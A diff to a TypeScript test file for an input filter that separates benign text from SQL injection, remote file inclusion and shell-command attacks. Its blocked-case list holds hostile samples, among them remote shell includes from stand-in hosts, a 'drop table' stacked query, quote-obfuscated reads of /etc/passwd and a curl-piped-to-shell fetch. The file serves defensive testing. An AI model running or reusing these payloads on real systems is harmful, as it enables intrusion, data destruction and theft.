@@ -75,6 +75,8 @@ const FIXED: [string, string][] = [
   ["subquery after a label", "Minimal example:\n\n    SELECT id, name FROM employees e WHERE salary > (SELECT AVG(salary) FROM employees WHERE dept = e.dept);"],
   ["statement after a contraction", "Here's my code so far:\n\n    SELECT c.name, COUNT(o.id) AS orders\n    FROM customers c LEFT JOIN orders o ON o.customer_id = c.id;"],
   ["comparison of literals in prose", "Thanks for the quick delivery, 5 > 3 and 2 < 4 as my teacher said"],
+  // rfi: a URL ends at a blank; a `?` that closes the prose after it is no include trailer
+  ["link, then a question", "https://shop.example.de/artikel/größe-m\n\nIs this the right size? Where is my order?"],
   // rce: French elision is no quote evasion
   ["French elision beside a command word", "I'd buy it again -- no question #nofilter C'est l'été, j'adore !"],
   ["elision in ASCII words after a command-like contraction", "I'd buy it again -- no question, j'adore, c'est top"],
@@ -105,6 +107,9 @@ const STILL_BLOCKED: [string, string][] = [
   ["prose, then a catalog", "my new comment here 1 and (select table_name from information_schema.tables)"],
   // a header's `Name: ` is no label of prose (a raw MIME part read whole)
   ["stacked query after a header line", "Content-Disposition: form-data; name=\"x\"\r\n\r\n7; drop table accounts--"],
+  // remote includes with their trailer
+  ["include trailer", "http://203.0.113.5/shell.txt?"],
+  ["include trailer, host name", "https://evil.example/x/shell.php??"],
   // shell evasions that look like elision
   ["c'at", "c'at /etc/passwd"],
   ["c'url piped to a shell", "c'url -s http://203.0.113.5/x.sh | s'h"],
